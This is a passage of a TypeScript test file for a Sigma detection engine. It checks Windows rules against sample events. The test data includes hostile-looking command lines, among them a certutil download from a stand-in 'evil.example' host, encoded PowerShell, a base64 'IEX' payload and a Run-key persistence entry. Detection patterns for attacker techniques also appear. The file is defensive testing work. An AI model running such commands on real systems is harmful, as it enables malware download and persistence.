    const m = r.compiled.match;
    r.compiled.match = (e) => { evaluated.push(r.rule.id!); return m(e); };
  }
  const run = (e: Record<string, unknown>) => {
    evaluated.length = 0;
    const matched = bothMatch(engine, e);
    evaluated.length = 0;
    engine.match(e, []);
    return { matched, evaluated: evaluated.slice() };
  };
  // Both literals occur; the Channel admits both rules, the EventID only one.
  assert.deepEqual(run({ Channel: 'Sysmon', EventID: 11, 'Proc.Cmd': 'evil', Target: 'evil' }), { matched: ['file'], evaluated: ['file'] });
  assert.deepEqual(run({ Channel: 'Security', EventID: 1, 'Proc.Cmd': 'evil', Target: 'evil' }), { matched: [], evaluated: [] });
  // The path is read as one flat key, nested, or through an array, whatever else the event has.
  for (const e of [
    { Channel: 'sysmon', EventID: '1', 'Proc.Cmd': 'x EVIL x' },
    { Channel: 'sysmon', EventID: '1', Proc: { Cmd: 'evil' } },
    { Other: 1, Proc: [{ Cmd: 'no' }, { Cmd: 'evil' }], EventID: 1, Channel: 'Sysmon' },
  ]) assert.deepEqual(run(e), { matched: ['proc'], evaluated: ['proc'] }, JSON.stringify(e));
  assert.deepEqual(run({ Channel: 'Sysmon', EventID: 1, Proc: { Cmd: 'fine' }, Cmd: 'evil' }), { matched: [], evaluated: [] });
});

// ---------------------------------------------------------------------------------------------
// SigmaHQ-style rules through the built-in windows pipeline

const WINDOWS_RULES = [
  // proc_creation_win_whoami_execution
  ruleDoc('c7c6cd2a-0001-4b8e-9c6d-whoami', { category: 'process_creation', product: 'windows' }, {
    selection_img: [{ 'Image|endswith': '\\whoami.exe' }, { OriginalFileName: 'whoami.exe' }],
    condition: 'selection_img',
  }, { tags: ['attack.discovery', 'attack.t1033'] }),
  // proc_creation_win_powershell_encoded_cmd
  ruleDoc('c7c6cd2a-0002-4b8e-9c6d-psenc', { category: 'process_creation', product: 'windows' }, {
    selection_img: [{ 'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'] }, { OriginalFileName: ['PowerShell.EXE', 'pwsh.dll'] }],
    selection_cli: { 'CommandLine|windash|contains': [' -e ', ' -en ', ' -enc ', ' -enco', ' -ec '] },
    filter_main_ccm: { ParentImage: 'C:\\Windows\\CCM\\CcmExec.exe' },
    condition: 'all of selection_* and not 1 of filter_main_*',
  }, { tags: ['attack.execution', 'attack.t1059.001'] }),
  // proc_creation_win_certutil_download
  ruleDoc('c7c6cd2a-0003-4b8e-9c6d-certutil', { category: 'process_creation', product: 'windows' }, {
    selection_img: { 'Image|endswith': '\\certutil.exe' },
    selection_cli: { 'CommandLine|contains|all': ['urlcache', 'http'] },
    filter_optional_internal: { 'CommandLine|contains': 'http://intranet.example/' },
    condition: 'all of selection_* and not 1 of filter_optional_*',
  }),
  // proc_creation_win_w3wp_spawn_shell (parent / child)
  ruleDoc('c7c6cd2a-0004-4b8e-9c6d-w3wp', { category: 'process_creation', product: 'windows' }, {
    selection: { 'ParentImage|endswith': '\\w3wp.exe', 'Image|endswith': ['\\cmd.exe', '\\powershell.exe'] },
    condition: 'selection',
  }),
  // proc_creation_win_powershell_base64_iex
  ruleDoc('c7c6cd2a-0005-4b8e-9c6d-b64iex', { category: 'process_creation', product: 'windows' }, {
    selection: { 'CommandLine|base64offset|contains': ['IEX ([', 'iex (New'] },
    condition: 'selection',
  }),
  // registry_set_run_key
  ruleDoc('c7c6cd2a-0006-4b8e-9c6d-runkey', { category: 'registry_set', product: 'windows' }, {
    selection: { 'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\', 'Details|contains': '\\AppData\\' },
    condition: 'selection',
  }),
  // security: a service: rule on the Security channel
  ruleDoc('c7c6cd2a-0007-4b8e-9c6d-logclear', { service: 'security', product: 'windows' }, {
    selection: { EventID: 1102 },
    condition: 'selection',
  }),
].join('\n---\n');

/** One process creation in each rendering the windows pipeline handles. */
function renderings(p: { Image: string; CommandLine: string; ParentImage?: string }): Array<[string, Record<string, unknown>]> {
  const data = { ...p, OriginalFileName: p.Image.split('\\').pop()!.toUpperCase() };
  return [
    ['flat sysmon', { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1', ...data }],
    ['event XML as JSON', { Event: { System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational' }, EventData: data } }],
    ['winlogbeat', { winlog: { event_id: '1', channel: 'Microsoft-Windows-Sysmon/Operational', event_data: data } }],
    ['security 4688', {
      Event: {
        System: { EventID: '4688', Channel: 'Security' },
        EventData: { NewProcessName: p.Image, CommandLine: p.CommandLine, ...(p.ParentImage ? { ParentProcessName: p.ParentImage } : {}) },
      },
    }],
  ];
}

test('SigmaHQ-style rules through the built-in windows pipeline, on every rendering', () => {
  const { rules } = parseRules(WINDOWS_RULES, 'rules/windows.yml');
  const engine = new SigmaEngine(throughPipelines(rules, [loadPipeline('windows')]));
  assert.equal(engine.stats.rules, 7);
  assert.equal(engine.stats.indexed, 7, 'every rule has a logsource condition');
  assert.ok(engine.stats.withLiterals >= 5, `rules with literals: ${engine.stats.withLiterals}`);
  const name = (id: string) => id.split('-').pop()!;
  const check = (p: Parameters<typeof renderings>[0], want: string[]) => {
    for (const [how, e] of renderings(p)) {
      assert.deepEqual(bothMatch(engine, e).map(name), want, `${how}: ${JSON.stringify(e)}`);
    }
  };

  check({ Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all', ParentImage: 'C:\\Windows\\System32\\cmd.exe' }, ['whoami']);
  // windash: the en dash and the slash are flag dashes too.
  check({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe -nop -enc SQBFAFgA', ParentImage: 'C:\\x\\explorer.exe' }, ['psenc']);
  check({ Image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', CommandLine: 'pwsh \u2013ec SQBFAFgA', ParentImage: 'C:\\x\\explorer.exe' }, ['psenc']);
  check({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell /enc SQBFAFgA', ParentImage: 'C:\\x\\explorer.exe' }, ['psenc']);
  // The filter (the SCCM agent's parent): no alert. Security 4688 has a ParentProcessName, mapped too.
  check({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell -enc SQBFAFgA', ParentImage: 'C:\\Windows\\CCM\\CcmExec.exe' }, []);
  // " -enco" is how the rule catches -EncodedCommand (contains, case-insensitive).
  check({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell -EncodedCommand SQBFAFgA', ParentImage: 'C:\\x\\explorer.exe' }, ['psenc']);
  check({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell -File x.ps1 -Verbose', ParentImage: 'C:\\x\\explorer.exe' }, []);

  check({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://evil.example/a.exe a.exe' }, ['certutil']);
  check({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://intranet.example/a.cer a.cer' }, []);
  check({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -verify a.cer' }, []);

  check({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c whoami', ParentImage: 'c:\\windows\\system32\\inetsrv\\W3WP.EXE' }, ['w3wp']);

  // base64offset: "IEX ([" encoded at each of the three offsets inside a longer Base64 text.
  for (const pre of ['', 'a', 'ab']) {
    const b64 = Buffer.from(`${pre}IEX ([Text.Encoding]::UTF8.GetString(x))`).toString('base64');
    check({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: `cmd /c echo ${b64}`, ParentImage: 'C:\\x\\explorer.exe' }, ['b64iex']);
  }
  // Base64 is matched case-sensitively: its case carries the data.
  check({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: `cmd /c echo ${Buffer.from('IEX ([').toString('base64').toLowerCase()}`, ParentImage: 'C:\\x\\explorer.exe' }, []);

  // Registry: EventID 13 in the XML rendering and in winlogbeat; a process rule never sees it.
  const reg = { TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\bob\\AppData\\Local\\u.exe', Image: 'C:\\Users\\bob\\whoami.exe' };
  assert.deepEqual(bothMatch(engine, { Event: { System: { EventID: 13, Channel: 'Microsoft-Windows-Sysmon/Operational' }, EventData: reg } }).map(name), ['runkey']);
  assert.deepEqual(bothMatch(engine, { winlog: { event_id: '13', channel: 'Microsoft-Windows-Sysmon/Operational', event_data: reg } }).map(name), ['runkey']);
  assert.deepEqual(bothMatch(engine, { EventID: 12, Channel: 'Microsoft-Windows-Sysmon/Operational', ...reg }).map(name), [], 'registry_set is EventID 13 only');
  // A Sysmon 1 on the wrong channel is not a process creation.
  assert.deepEqual(bothMatch(engine, { EventID: 1, Channel: 'Application', Image: 'C:\\Windows\\System32\\whoami.exe' }), []);
  // service: security
  assert.deepEqual(bothMatch(engine, { Event: { System: { EventID: 1102, Channel: 'Security' } } }).map(name), ['logclear']);
  assert.deepEqual(bothMatch(engine, { winlog: { event_id: '1102', channel: 'Security' } }).map(name), ['logclear']);
  assert.deepEqual(bothMatch(engine, { EventID: 1102, Channel: 'System' }), []);
});
